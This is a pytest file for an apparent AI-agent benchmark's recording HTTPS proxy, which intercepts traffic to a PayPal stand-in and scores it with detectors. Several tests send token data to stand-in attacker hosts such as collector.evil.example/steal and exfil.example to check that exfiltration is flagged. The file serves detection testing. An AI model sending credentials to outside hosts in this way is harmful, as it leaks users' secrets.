"""The recording forward proxy with real clients and real sockets on 127.0.0.1: what a process sends
through HTTPS_PROXY (CONNECT + TLS from the run's CA), in absolute form, or to its base URL is
recorded exactly as the same request sent in process, and scored by the same detectors."""
from __future__ import annotations

import base64
import http.client
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import textwrap
import time

import httpx
import pytest

from guardbench.paypal.standin import BENCH_CLIENT_ID, BENCH_CLIENT_SECRET, PayPalStandIn
from guardbench.proxy.server import RecordingProxy, SerialTransport
from guardbench.records.record import WireRequest
from guardbench.scoring.detectors import DETECTORS
from guardbench.transport.recording import RecordingTransport
from guardbench.transport.standin import StandInTransport

ORDER = {"intent": "CAPTURE", "purchase_units": [{"amount": {"currency_code": "USD", "value": "12.50"}}]}


def recorder(seed="p"):
    return RecordingTransport(SerialTransport(StandInTransport(PayPalStandIn(seed=seed))), run_id="r")


@pytest.fixture(scope="module")
def proxy():
    p = RecordingProxy().start()
    yield p
    p.close()


@pytest.fixture
def rec(proxy):
    r = recorder()
    proxy.route(r)
    yield r
    proxy.route(None)


def outside(wire):
    from guardbench.scoring.detectors import Reference
    ref = Reference(frozenset(), frozenset({"USD"}), {}, {})
    return [i for i in DETECTORS["outside_host"](wire, ref)]


def test_connect_records_what_the_in_process_transport_records(proxy, rec):
    with httpx.Client(proxy=proxy.url, verify=ssl.create_default_context(cafile=proxy.ca_path), timeout=10) as c:
        tok = c.post("https://api-m.sandbox.paypal.com/v1/oauth2/token", data={"grant_type": "client_credentials"},
                     auth=(BENCH_CLIENT_ID, BENCH_CLIENT_SECRET))
        assert tok.status_code == 200, tok.text
        token = tok.json()["access_token"]
        made = c.post("https://api-m.sandbox.paypal.com/v2/checkout/orders", json=ORDER,
                      headers={"Authorization": f"Bearer {token}"})
    assert made.status_code == 201, made.text
    # the same two requests, in process, on a stand-in with the same seed
    local = recorder()
    t2 = local.send(WireRequest.make("POST", "https://api-m.sandbox.paypal.com/v1/oauth2/token",
                                     {"Authorization": "Basic " + base64.b64encode(
                                         f"{BENCH_CLIENT_ID}:{BENCH_CLIENT_SECRET}".encode()).decode(),
                                      "Content-Type": "application/x-www-form-urlencoded"},
                                     "grant_type=client_credentials")).json()["access_token"]
    local.send(WireRequest.make("POST", "https://api-m.sandbox.paypal.com/v2/checkout/orders",
                                {"Authorization": f"Bearer {t2}", "Content-Type": "application/json"},
                                json.dumps(ORDER, separators=(",", ":"))))
    assert token == t2
    got = [(e.request.method, e.request.url, e.request.json(), e.response.status, e.response.body)
           for e in rec.exchanges]
    want = [(e.request.method, e.request.url, e.request.json(), e.response.status, e.response.body)
            for e in local.exchanges]
    assert got[1:] == want[1:] and got[0][:2] == want[0][:2]
    hop = {k.lower() for e in rec.exchanges for k, _ in e.request.headers}
    assert not hop & {"host", "content-length", "connection", "proxy-connection"}


def test_an_outside_host_is_answered_like_an_attackers_server_and_scored(proxy, rec):
    with httpx.Client(proxy=proxy.url, verify=ssl.create_default_context(cafile=proxy.ca_path), timeout=10) as c:
        r = c.post("https://collector.evil.example/steal?x=1", json={"token": "t"})
    assert r.status_code == 200 and r.json() == {"received": True}
    (ex,) = rec.exchanges
    assert ex.request.url == "https://collector.evil.example/steal?x=1" and ex.request.json() == {"token": "t"}
    assert [i.kind for i in outside(rec.exchanges)] == ["outside_host"]


def test_a_process_that_does_not_trust_the_ca_is_on_the_record(proxy, rec):
    ctx = ssl.create_default_context()            # the system's CAs, not the run's
    with pytest.raises(httpx.ConnectError):
        with httpx.Client(proxy=proxy.url, verify=ctx, timeout=10) as c:
            c.get("https://exfil.example/x")
    deadline = time.monotonic() + 10           # the proxy notes the failed handshake on its own thread
    while not rec.exchanges and time.monotonic() < deadline:
        time.sleep(0.02)
    (ex,) = rec.exchanges
    assert ex.request.method == "CONNECT" and ex.request.url == "https://exfil.example/"
    assert ex.response is None and "TLS handshake failed" in ex.error
    assert [i.kind for i in outside(rec.exchanges)] == ["outside_host"]


def test_absolute_form_in_clear_is_served_and_recorded_as_addressed(proxy, rec):
    """What axios before 1.16 sends through HTTPS_PROXY: GET https://host/path over plain HTTP."""
    conn = http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=10)
    conn.request("GET", "https://api.sandbox.paypal.com/v2/checkout/orders/NOPE?x=1",
                 headers={"Authorization": "Bearer nope"})
    resp = conn.getresponse()
    assert resp.status in (401, 404, 200), resp.read()
    conn.close()
    (ex,) = rec.exchanges
    assert ex.request.url == "https://api.sandbox.paypal.com/v2/checkout/orders/NOPE?x=1"
    assert ex.request.header("authorization") == "Bearer nope"


def test_a_base_url_request_is_recorded_as_addressed_to_paypal(proxy, rec):
    with httpx.Client(base_url=proxy.url, timeout=10) as c:
        r = c.post("/v1/oauth2/token", data={"grant_type": "client_credentials"},
                   auth=(BENCH_CLIENT_ID, BENCH_CLIENT_SECRET))
    assert r.status_code == 200
    assert rec.exchanges[0].request.url == "https://api-m.sandbox.paypal.com/v1/oauth2/token"
    assert outside(rec.exchanges) == []


def test_chunked_bodies_and_expect_continue_are_read_whole(proxy, rec):
    body = json.dumps({"big": "x" * 200_000}).encode()
    s = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    head = (b"POST https://hooks.example/in HTTP/1.1\r\nHost: hooks.example\r\nTransfer-Encoding: chunked\r\n"
            b"Expect: 100-continue\r\nContent-Type: application/json\r\n\r\n")
    s.sendall(head)
    assert s.recv(100).startswith(b"HTTP/1.1 100")
    for i in range(0, len(body), 65536):
        part = body[i:i + 65536]
        s.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
    s.sendall(b"0\r\n\r\n")
    data = b""
    while b"received" not in data:
        data += s.recv(4096)
    s.close()
    (ex,) = rec.exchanges
    assert ex.request.body.encode() == body


def test_no_active_run_is_answered_503_and_kept_apart(proxy):
    proxy.route(None)
    before = len(proxy.stray)
    with httpx.Client(proxy=proxy.url, verify=ssl.create_default_context(cafile=proxy.ca_path), timeout=10) as c:
        r = c.get("https://api-m.sandbox.paypal.com/v2/checkout/orders/X")
    assert r.status_code == 503
    assert len(proxy.stray) == before + 1 and proxy.stray[-1].request.url.endswith("/orders/X")


def test_the_ca_lives_in_a_temporary_folder_and_leaves_with_the_proxy():
    from cryptography import x509
    p = RecordingProxy().start()
    folder = p.folder
    cert = x509.load_pem_x509_certificate(p.ca.pem)
    assert cert.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    assert not (set(os.listdir(folder)) - {"ca.pem"})       # leaf keys are unlinked once loaded
    p.ca.context("api.sandbox.paypal.com")
    assert not (set(os.listdir(folder)) - {"ca.pem"})
    env = p.environment()
    assert {env[k] for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "CURL_CA_BUNDLE")} \
        == {str(folder / "ca.pem")}
    assert env["HTTPS_PROXY"] == env["http_proxy"] == p.url and env["NO_PROXY"] == ""
    p.close()
    assert not folder.exists()


CHILD = textwrap.dedent("""
    import json, os, urllib.request, requests
    # urllib: HTTPS_PROXY + SSL_CERT_FILE (the default context); requests: HTTPS_PROXY + REQUESTS_CA_BUNDLE
    req = urllib.request.Request("https://api-m.sandbox.paypal.com/v2/checkout/orders/A", method="GET")
    try:
        urllib.request.urlopen(req, timeout=10)
    except urllib.error.HTTPError as exc:
        print("urllib", exc.code)
    r = requests.post("https://outside.example/hook", json={"n": 1}, timeout=10)
    print("requests", r.status_code)
""")


def test_a_child_process_is_captured_through_its_environment_alone(proxy, rec, tmp_path):
    env = {"PATH": os.environ.get("PATH", ""), **proxy.environment()}
    out = subprocess.run([sys.executable, "-c", CHILD], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "requests 200" in out.stdout
    urls = [e.request.url for e in rec.exchanges]
    assert urls == ["https://api-m.sandbox.paypal.com/v2/checkout/orders/A", "https://outside.example/hook"]


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_reads_curl_ca_bundle(proxy, rec):
    env = {"PATH": os.environ.get("PATH", ""), **proxy.environment()}
    out = subprocess.run(["curl", "-s", "-X", "POST", "https://api.sandbox.paypal.com/v1/oauth2/token",
                          "-u", f"{BENCH_CLIENT_ID}:{BENCH_CLIENT_SECRET}", "-d", "grant_type=client_credentials"],
                         env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert rec.exchanges[0].request.url == "https://api.sandbox.paypal.com/v1/oauth2/token"
